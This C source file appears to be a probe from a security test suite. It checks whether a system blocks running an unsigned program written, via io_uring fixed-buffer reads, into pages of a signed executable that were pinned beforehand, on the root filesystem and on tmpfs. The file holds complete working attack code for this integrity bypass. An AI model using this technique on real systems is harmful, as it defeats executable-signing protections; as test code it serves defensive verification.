// SPDX-License-Identifier: GPL-2.0-only
/*
 * Pages that somebody pinned while he might write to the file: the descriptor
 * is closed and the mapping gone, no count shows a writer, and io_uring still
 * writes to them, without a change of the inode.
 */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

struct ring {
	int fd;
	struct io_uring_params params;
	char *sq, *cq;
	struct io_uring_sqe *sqes;
};

static bool ring_open(struct ring *r)
{
	size_t sq, cq;

	r->fd = syscall(SYS_io_uring_setup, 4, &r->params);
	if (r->fd < 0)
		return false;
	sq = r->params.sq_off.array + r->params.sq_entries * sizeof(unsigned int);
	cq = r->params.cq_off.cqes + r->params.cq_entries * sizeof(struct io_uring_cqe);
	r->sq = mmap(NULL, sq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
	r->cq = mmap(NULL, cq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_CQ_RING);
	r->sqes = mmap(NULL, r->params.sq_entries * sizeof(*r->sqes), PROT_READ | PROT_WRITE,
		       MAP_SHARED, r->fd, IORING_OFF_SQES);
	return r->sq != MAP_FAILED && r->cq != MAP_FAILED && r->sqes != MAP_FAILED;
}

/* Reads @len bytes of @fd into the registered buffer at @addr; the result. */
static int ring_read_fixed(struct ring *r, int fd, void *addr, size_t len)
{
	unsigned int *tail = (void *)(r->sq + r->params.sq_off.tail);
	unsigned int *array = (void *)(r->sq + r->params.sq_off.array);
	struct io_uring_cqe *cqes = (void *)(r->cq + r->params.cq_off.cqes);

	r->sqes[0] = (struct io_uring_sqe){
		.opcode = IORING_OP_READ_FIXED,
		.fd = fd,
		.addr = (unsigned long)addr,
		.len = len,
	};
	array[0] = 0;
	__atomic_store_n(tail, 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -errno;
	return cqes[0].res;
}

static enum result attack(const char *path)
{
	struct ring ring = {};
	size_t good_len, len, room;
	char *good = slurp(SIGNED "prog", &good_len), *evil = slurp(UNSIGNED "prog", &len), *map;
	struct iovec buffer;
	struct ran ran;
	int fd;

	if (!good || !evil || copy_file(SIGNED "prog", path))
		return say(WRONG, "prepare: %s", strerror(errno));
	if (!ring_open(&ring))
		return say(SKIPPED, "io_uring: %s", strerror(errno));
	room = (good_len + 4095) & ~4095UL;
	fd = open(path, O_RDWR);
	map = mmap(NULL, room, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	buffer = (struct iovec){ map, room };
	if (map == MAP_FAILED ||
	    syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_BUFFERS, &buffer, 1)) {
		/* 6.5 and later pin no pages of a file that tracks what is dirty. */
		return say(errno == EFAULT || errno == EOPNOTSUPP ? REFUSED : SKIPPED,
			   "the pages cannot be pinned: %s", strerror(errno));
	}
	munmap(map, room);
	close(fd);
	ran = run(path, NULL);
	if (ran.err)
		return judge("a program with pinned pages", ran, EACCES);
	fd = open(UNSIGNED "prog", O_RDONLY);
	if (ring_read_fixed(&ring, fd, map, len) != (int)len)
		return say(WRONG, "it ran, but READ_FIXED failed");
	return judge("a program rewritten through pinned pages", run(path, NULL), EACCES);
}

static enum result on_tmpfs(void)
{
	if (own_mounts() || mount_tmpfs("t"))
		return say(WRONG, "tmpfs: %s", strerror(errno));
	return attack("t/p");
}

static enum result on_root(void)
{
	return attack("./p");
}

const struct probe pinned_probes[] = {
	{ "pinned.root", on_root, false },
	{ "pinned.tmpfs", on_tmpfs, false },
	{ NULL, NULL, false },
};
